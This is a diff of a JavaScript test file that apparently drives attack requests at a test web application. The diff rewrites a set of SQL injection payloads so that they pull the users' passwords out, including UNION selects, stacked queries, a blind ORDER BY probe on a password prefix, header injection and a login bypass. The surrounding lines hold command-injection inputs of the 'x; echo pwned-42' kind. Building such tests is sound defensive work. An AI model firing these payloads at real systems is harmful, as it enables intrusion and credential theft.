@@ -71,19 +71,22 @@ module.exports = function attacks({ root, internal, redirect }) {
   command('query.name', ran, 'in a substitution', `/size?name=${e('x); echo pwned-42; (true')}`);
   command('body.name', ran, 'arguments with shell: true', '/archive', json({ name: 'x; echo pwned-42' }));
 
-  const sent = (text) => (r) => JSON.parse(r.text)[0].statement.includes(text);
+  const leaked = (r) => r.text.includes('swordfish-7');
+  const several = (r) => JSON.parse(r.text).length > 1;
   const sql = (...a) => add('SQL injection', 'sql-injection', ...a);
-  sql('query.id', sent('OR 1=1'), 'in a number', `/user?id=${e('1 OR 1=1')}`);
-  sql('query.id', sent('UNION'), 'union', `/user?id=${e('1 UNION SELECT name, password FROM users')}`);
-  sql('query.id', sent('pg_sleep'), 'stacked', `/user?id=${e('1; SELECT pg_sleep(5)')}`);
-  sql('query.text', sent('--'), 'out of a string', `/search?text=${e("x' UNION SELECT 1, 2 -- ")}`);
-  sql('body.user', sent("' OR '"), 'login', '/login', json({ user: "' OR '1'='1", password: 'x' }));
-  sql('body.password', sent("'\\'"), 'escape before the quote', '/login', form({ user: '\\', password: " OR 1=1 -- '" }));
-  sql('query.by', sent('CASE'), 'order by', `/sorted?by=${e('(CASE WHEN 1=1 THEN name ELSE price END)')}`);
-  sql('query.ids', sent('UNION'), 'in a list', `/in?ids=${e('1) UNION SELECT password FROM users WHERE (1=1')}`);
-  sql('header.user-agent', sent('), ('), 'by a header', '/agent', { headers: { 'user-agent': "x'), ((SELECT password FROM users)) -- " } });
-  sql('query.who', sent('*/'), 'out of a comment', `/report?who=${e('x */ UNION SELECT 2 -- ')}`);
-  sql('body', (r) => r.status === 200, 'an object as value', '/find', json({ user: 'admin', password: { password: 1 } }));
+  sql('query.id', several, 'in a number', `/user?id=${e('1 OR 1=1')}`);
+  sql('query.id', leaked, 'union', `/user?id=${e('1 UNION SELECT name, password FROM users')}`);
+  sql('query.id', leaked, 'stacked', `/user?id=${e('1; SELECT password FROM users')}`);
+  sql('query.text', leaked, 'out of a string', `/search?text=${e("x' UNION SELECT name, password FROM users -- ")}`);
+  sql('body.user', leaked, 'login', '/login', json({ user: "' OR '1'='1' -- ", password: 'x' }));
+  sql('body.password', leaked, 'escape before the quote', '/login', form({ user: '\\', password: " OR 1=1 -- '" }));
+  // The cheapest comes first only if the password begins so.
+  sql('query.by', (r) => JSON.parse(r.text)[0].name === 'oak table 50', 'order by',
+    `/sorted?by=${e("(CASE WHEN (SELECT password FROM users WHERE id = 1) LIKE 'sword%' THEN price ELSE -price END)")}`);
+  sql('query.ids', leaked, 'in a list', `/in?ids=${e('1) UNION SELECT password FROM users WHERE (1=1')}`);
+  sql('header.user-agent', leaked, 'by a header', '/agent', { headers: { 'user-agent': "x'), ((SELECT password FROM users WHERE id = 1)) RETURNING agent -- " } });
+  sql('query.who', leaked, 'out of a comment', `/report?who=${e('x */ UNION SELECT password FROM users -- ')}`);
+  sql('body', leaked, 'an object as value', '/find', json({ user: 'admin', password: { password: 1 } }));
 
   const code = (detection, ...a) => add('code and deserialisation', detection, ...a);
   code('code-injection', 'body.state', ran, 'a function that is called', '/state',
